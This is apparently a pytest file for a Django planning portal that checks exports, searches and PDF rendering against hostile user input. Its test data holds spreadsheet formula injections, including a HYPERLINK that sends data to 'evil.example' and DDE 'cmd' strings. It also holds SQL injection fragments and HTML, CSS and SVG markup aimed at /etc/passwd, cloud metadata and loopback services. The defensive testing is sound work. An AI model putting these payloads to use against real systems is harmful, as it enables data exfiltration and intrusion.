"""Rows 21-26 of docs/bad-inputs.md: what leaves the portal as a file or a result list.

Formula-like text in every Excel export (21), SQL-looking searches on the list
pages (22), markup in user text that would make the PDF renderer read a file,
attach one or call a server (23-25), and a plan too large to print (26). Every
check goes through the page or download a person would use.
"""

import datetime
import io
import multiprocessing
import threading
from dataclasses import dataclass, field

import pytest
from django.test import override_settings
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from danvan import documents
from danvan.jobs.models import Job, JobStatus
from danvan.jobs.runner import execute
from models_registry.choices import RegistrationStatus
from plans.choices import PlanStatus, TaskLayout
from plans.models import Plan, Section, Task
from reports import services as report_services
from tests.conftest import client_for
from tests.documents.conftest import build_plan
from tests.documents.pdftools import comparable, pdf_body_text, requires_poppler
from tests.documents.test_fetcher import listening_server  # noqa: F401 - a fixture
from tests.factories import (
    CampaignFactory,
    IssuedPlanFactory,
    PlanFactory,
    RegistrationFactory,
    TaskFactory,
    UnitFactory,
)
from units.choices import UnitKind

# --- row 21: formula injection in Excel exports -----------------------------------------------------

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "plus-cmd": "+cmd|' /C calc'!A0",
    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
}
FORMULA_STARTS = ("=", "+", "-", "@")


def exported_cells(content: bytes) -> list:
    """Return every non-empty cell of every sheet of an .xlsx file, formulas as written (not computed)."""
    workbook = load_workbook(io.BytesIO(content))
    return [
        cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None
    ]


def assert_neutralised(content: bytes, payload: str, *, at_least: int = 1) -> None:
    """The payload is in the file only as text with a leading apostrophe, and no cell is a formula."""
    cells = exported_cells(content)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert sum(text == "'" + payload for text in texts) >= at_least, f"{payload!r} not exported as text"
    assert [text for text in texts if text.startswith(FORMULA_STARTS)] == []


@pytest.fixture
def formula_unit(world):
    """A unit of the commune whose name looks like a formula (imports create units from document text)."""

    def make(payload: str):
        return UnitFactory(parent=world.commune, kind=UnitKind.DEPARTMENT, name=payload, short_name=payload)

    return make


@pytest.mark.parametrize("payload", FORMULAS.values(), ids=FORMULAS.keys())
def test_row21_task_list_export_prefixes_formula_text(world, formula_unit, payload):
    """Given a task whose content, lead unit, coordinating units and timeframe look like formulas,
    when a leader exports the task list, then each is a text cell starting with an apostrophe."""
    plan = IssuedPlanFactory(issuing_unit=world.commune, created_by=world.users["official"])
    TaskFactory(
        plan=plan,
        content=payload,
        timeframe_text=payload,
        coordinating_text=payload,
        lead_units=[formula_unit(payload)],
    )
    response = client_for(world.users["leader"]).get(reverse("tasks:task_export"))
    assert response.status_code == 200
    assert_neutralised(response.content, payload, at_least=4)


@pytest.mark.parametrize("payload", FORMULAS.values(), ids=FORMULAS.keys())
def test_row21_progress_sheet_export_prefixes_formula_text(world, payload):
    """Given a task of the unit head's unit whose content looks like a formula, when the head downloads the sheet
    to fill in offline, then the content is text with an apostrophe."""
    plan = IssuedPlanFactory(issuing_unit=world.commune, created_by=world.users["official"])
    TaskFactory(plan=plan, content=payload, lead_units=[world.other_department])
    response = client_for(world.users["unit_head"]).get(reverse("tasks:unit_task_export"))
    assert response.status_code == 200
    assert_neutralised(response.content, payload)


@pytest.mark.parametrize("payload", FORMULAS.values(), ids=FORMULAS.keys())
def test_row21_report_workbook_prefixes_formula_text(world, formula_unit, payload):
    """Given a period whose plan title, late task, lead unit, campaign and recognised model look like formulas,
    when the leader downloads the report's Excel file, then every one of them is text with an apostrophe."""
    official = world.users["official"]
    plan = IssuedPlanFactory(issuing_unit=world.commune, created_by=official, title=payload)
    unit = formula_unit(payload)
    TaskFactory(
        plan=plan, content=payload, timeframe_kind="deadline", due_date=datetime.date(2025, 9, 30), lead_units=[unit]
    )
    campaign = CampaignFactory(issuing_unit=world.commune, year=2025, name=payload, eligible_units=[unit])
    RegistrationFactory(
        campaign=campaign,
        unit=unit,
        name=payload,
        status=RegistrationStatus.RECOGNIZED,
        recognition_level="commune",
        is_exemplary=True,
        commendation_decision=payload,
        created_by=official,
    )
    report = report_services.report_create(unit=world.commune, period_kind="second_half", year=2025, by=official)
    response = client_for(world.users["leader"]).get(reverse("reports:report_xlsx", args=[report.pk]))
    assert response.status_code == 200
    assert response.content.startswith(b"PK")
    assert_neutralised(response.content, payload, at_least=5)


# --- row 22: SQL-looking search text ------------------------------------------------------------------

INJECTION = "' OR 1=1 --"


def listed_pks(response) -> set[int]:
    """Return the ids of the page's rows: objects, or plain values where a list reads them so (issue 19)."""
    return {item["pk"] if isinstance(item, dict) else item.pk for item in response.context["page"].object_list}


def plan_pair(world):
    match = PlanFactory(issuing_unit=world.commune, title=f"Kế hoạch {INJECTION} kiểm thử tìm kiếm")
    decoy = PlanFactory(issuing_unit=world.commune, title="Kế hoạch tuyên truyền thường lệ")
    return "plans:plan_list", "official", match, decoy


def task_pair(world):
    plan = IssuedPlanFactory(issuing_unit=world.commune, created_by=world.users["official"])
    match = TaskFactory(plan=plan, content=f"Rà soát {INJECTION} danh sách hộ nghèo", lead_units=[world.department])
    decoy = TaskFactory(plan=plan, content="Tổ chức hội nghị tuyên truyền", lead_units=[world.department])
    return "tasks:task_list", "leader", match, decoy


def registration_pair(world):
    campaign = CampaignFactory(issuing_unit=world.commune, created_by=world.users["official"], allow_multiple=True)
    match = RegistrationFactory(
        campaign=campaign,
        unit=world.department,
        name=f"Mô hình {INJECTION} một cửa",
        created_by=world.users["official"],
    )
    decoy = RegistrationFactory(
        campaign=campaign, unit=world.department, name="Mô hình dân vận khéo", created_by=world.users["official"]
    )
    return "models_registry:registration_list", "official", match, decoy


def unit_pair(world):
    match = UnitFactory(parent=world.commune, name=f"Tổ dân phố {INJECTION} số 5", short_name="Tổ dân phố số 5")
    return "units:unit_list", "official", match, world.department


LISTS = {"plans": plan_pair, "tasks": task_pair, "registrations": registration_pair, "units": unit_pair}


@pytest.mark.parametrize("make", LISTS.values(), ids=LISTS.keys())
def test_row22_sql_looking_search_is_a_literal_search(world, make):
    """Given one row whose text holds "' OR 1=1 --" and one that does not, when the list is searched for it,
    then only the first is listed: the words are matched literally, never read as SQL."""
    url, role, match, decoy = make(world)
    client = client_for(world.users[role])
    response = client.get(reverse(url), {"q": INJECTION})
    assert response.status_code == 200
    assert listed_pks(response) == {match.pk}
    assert decoy.pk in listed_pks(client.get(reverse(url)))


@pytest.mark.parametrize(
    "query",
    ["'; DROP TABLE plans_plan; --", "' UNION SELECT password FROM units_user --", "%' OR '%'='", "\\'; --"],
    ids=["drop-table", "union-select", "like-wildcards", "backslash-quote"],
)
@pytest.mark.parametrize("make", LISTS.values(), ids=LISTS.keys())
def test_row22_other_sql_fragments_find_nothing_and_change_nothing(world, make, query):
    url, role, match, decoy = make(world)
    plans_before = Plan.objects.count()
    response = client_for(world.users[role]).get(reverse(url), {"q": query})
    assert response.status_code == 200
    assert listed_pks(response) == set()
    assert Plan.objects.count() == plans_before


# --- rows 23-25: markup in user text never makes the PDF renderer fetch anything ----------------------

FILE_MARKUP = {
    "img-file": '<img src="file:///etc/passwd">',
    "link-attachment": '<link rel="attachment" href="file:///etc/passwd" title="passwd">',
    "a-attachment": '<a rel="attachment" href="file:///etc/shadow">tệp đính kèm</a>',
}
SERVER_MARKUP = {
    "metadata": '<img src="http://169.254.169.254/latest/meta-data/">',
    "postgres": '<link rel="stylesheet" href="http://127.0.0.1:5432/">',
    "ipv6-loopback": '<img src="http://[::1]/">',
    "decimal-ip": '<img src="http://2130706433/">',
}
CSS_MARKUP = {
    "import": '<style>@import url("http://169.254.169.254/x.css");</style>',
    "css-url": "<p style=\"background: url('http://127.0.0.1:5432/nen.png')\">nền</p>",
    "font-face": "<style>@font-face { font-family: X; src: url(file:///etc/passwd); }</style>",
    "svg-image": '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://[::1]/anh.png" width="9" height="9"/></svg>',
}


class RecordingFetcher(documents.AssetFetcher):
    """The portal's fetcher, remembering every URL it is asked for."""

    def __init__(self):
        super().__init__()
        self.asked: list[str] = []

    def fetch(self, url, headers=None):
        self.asked.append(url)
        return super().fetch(url, headers)


@dataclass
class Renders:
    """What the PDF renderer was given and asked for during a test."""

    fetcher: RecordingFetcher = field(default_factory=RecordingFetcher)
    htmls: list[str] = field(default_factory=list)


@pytest.fixture
def in_process_render(monkeypatch) -> Renders:
    """Lay plan PDFs out in the test process with a recording fetcher, instead of in the bounded child.

    The child cannot report which URLs WeasyPrint asked for; this keeps every step but the
    process boundary (test_row24_the_bounded_renderer_... checks that path with a real server).
    """
    renders = Renders()

    def render(html, *, stylesheets=(), limits, niceness=None):
        renders.htmls.append(html)
        return documents.html_to_pdf(html, stylesheets=stylesheets, fetcher=renders.fetcher)

    monkeypatch.setattr(documents, "html_to_pdf_limited", render)
    return renders


def plan_with_text(world, text: str) -> Plan:
    """Return a draft plan with `text` typed into its intro, a section, a task of the appendix and its recipients."""
    plan = build_plan(world)
    Plan.objects.filter(pk=plan.pk).update(intro=text, recipients=f"{text}\nLưu: VT.")
    section = Section.objects.filter(plan=plan, parent=None).first()
    Section.objects.filter(pk=section.pk).update(text=text)
    task = Task.objects.filter(plan=plan, section=None).first()
    task.content = text
    task.save()
    return plan


def download_pdf(world, plan) -> bytes:
    response = client_for(world.users["official"]).get(reverse("plans:plan_pdf", args=[plan.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    return response.content


def assert_printed_literally_and_nothing_fetched(world, renders: Renders, markup: str) -> None:
    plan = plan_with_text(world, f"Nội dung người dùng gõ: {markup} hết.")
    pdf = download_pdf(world, plan)
    (html,) = renders.htmls
    assert markup not in html  # escaped: the renderer sees text, not a tag
    fetcher = renders.fetcher
    assert documents.asset_url("css/print.css") in fetcher.asked  # the recorder does see what is fetched
    assert fetcher.refused == []
    assert {url.removeprefix(documents.ASSET_ORIGIN) for url in fetcher.asked} <= set(documents.ASSETS)
    assert PdfReader(io.BytesIO(pdf)).attachments == {}
    assert b"root:" not in pdf
    assert comparable(markup) in comparable(pdf_body_text(pdf))


@requires_poppler
@pytest.mark.parametrize("markup", FILE_MARKUP.values(), ids=FILE_MARKUP.keys())
def test_row23_local_file_markup_is_printed_not_fetched_or_attached(world, in_process_render, markup):
    """Given user text asking for /etc/passwd as an image or an attachment, when the plan PDF is downloaded,
    then the text is printed as typed, the fetcher is never asked for the file and the PDF has no attachment."""
    assert_printed_literally_and_nothing_fetched(world, in_process_render, markup)


@requires_poppler
@pytest.mark.parametrize("markup", SERVER_MARKUP.values(), ids=SERVER_MARKUP.keys())
def test_row24_internal_addresses_are_printed_not_requested(world, in_process_render, markup):
    """Cloud metadata, the database port, IPv6 loopback and a decimal IPv4 in user text: printed, never asked for."""
    assert_printed_literally_and_nothing_fetched(world, in_process_render, markup)


@requires_poppler
@pytest.mark.parametrize("markup", CSS_MARKUP.values(), ids=CSS_MARKUP.keys())
def test_row25_css_and_svg_references_are_printed_not_requested(world, in_process_render, markup):
    """@import, url() in a style attribute or @font-face, and an SVG <image href>: printed, never asked for."""
    assert_printed_literally_and_nothing_fetched(world, in_process_render, markup)


def test_row24_the_bounded_renderer_connects_to_no_server(world, listening_server):
    """Given every kind of hostile markup pointing at a live loopback server, when the plan PDF is downloaded
    through the real child-process renderer, then the server sees no connection and nothing is attached."""
    local = f"http://127.0.0.1:{listening_server.port}"
    markup = " ".join(
        [
            f'<img src="{local}/anh.png">',
            f'<link rel="attachment" href="{local}/tep.bin">',
            f'<link rel="stylesheet" href="{local}/kieu.css">',
            f'<style>@import url("{local}/nhap.css"); p {{ background: url({local}/nen.png); }}</style>',
            f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{local}/svg.png"/></svg>',
        ]
    )
    pdf = download_pdf(world, plan_with_text(world, markup))
    threading.Event().wait(0.2)
    assert listening_server.connections == []
    assert PdfReader(io.BytesIO(pdf)).attachments == {}


# --- row 26: a plan too large to print ------------------------------------------------------------------


def huge_plan(world, *, tasks: int = 3000, field_chars: int = 200_000) -> Plan:
    """Return a draft plan with `tasks` tasks in its appendix and a section of `field_chars` characters."""
    plan = PlanFactory(
        issuing_unit=world.commune, created_by=world.users["official"], status=PlanStatus.DRAFT, has_appendix=True
    )
    sentence = "Vận động Nhân dân tham gia giữ gìn vệ sinh môi trường, trồng và chăm sóc cây xanh. "
    Section.objects.create(
        plan=plan, position=0, heading="Nội dung", text=(sentence * (field_chars // len(sentence) + 1))[:field_chars]
    )
    Section.objects.create(plan=plan, position=1, heading="Danh mục", task_layout=TaskLayout.BLOCKS)
    Task.objects.bulk_create(
        Task(
            plan=plan,
            position=number,
            content=f"Nhiệm vụ số {number}: tuyên truyền, vận động Nhân dân thực hiện phong trào.",
            lead_text="Các phòng, đơn vị",
            timeframe_kind="regular",
            timeframe_text="Thường xuyên",
        )
        for number in range(1, tasks + 1)
    )
    return plan


def render_children() -> list:
    """Return the live children that are rendering: a warm child waiting in the pool (issue 19) renders nothing."""
    from danvan.document_pool import render_pool

    waiting = set(render_pool(documents._context()).idle_pids())
    return [child for child in multiprocessing.active_children() if child.is_alive() and child.pid not in waiting]


@pytest.mark.parametrize(
    ("limits", "reason"),
    [
        ({"DOCUMENT_RENDER_TIMEOUT": 1, "DOCUMENT_RENDER_WALL_SECONDS": 120}, "quá 1 giây xử lý"),
        ({"DOCUMENT_RENDER_MEMORY_MB": 150}, "Văn bản quá lớn"),
        ({"DOCUMENT_MAX_HTML_BYTES": 256 * 1024}, "tối đa 256 KB"),
    ],
    ids=["time-limit", "memory-limit", "size-limit"],
)
def test_row26_a_plan_too_large_to_print_goes_to_a_job_that_fails_with_the_reason(world, limits, reason):
    """Given 3,000 tasks and a 200,000-character section, when the PDF is asked for, then the answer is the
    job's page at once (no worker waits for the layout); under small limits the job fails with the reason in
    Vietnamese, shown on its page; no render is left running, and the next PDF is served."""
    plan = huge_plan(world)
    client = client_for(world.users["official"])
    response = client.get(reverse("plans:plan_pdf", args=[plan.pk]))
    job = Job.objects.get(kind="plan_pdf")
    assert response.status_code == 302 and response["Location"] == job.get_absolute_url()
    with override_settings(**limits):
        finished = execute(str(job.pk))
    assert finished.status == JobStatus.FAILED
    assert "Văn bản quá lớn" in finished.message and reason in finished.message
    page = client.get(job.get_absolute_url()).content.decode()
    assert "Văn bản quá lớn" in page and reason in page
    assert render_children() == []
    small = build_plan(world, appendix=False)
    again = client.get(reverse("plans:plan_pdf", args=[small.pk]))
    assert again.status_code == 200 and again.content.startswith(b"%PDF-")
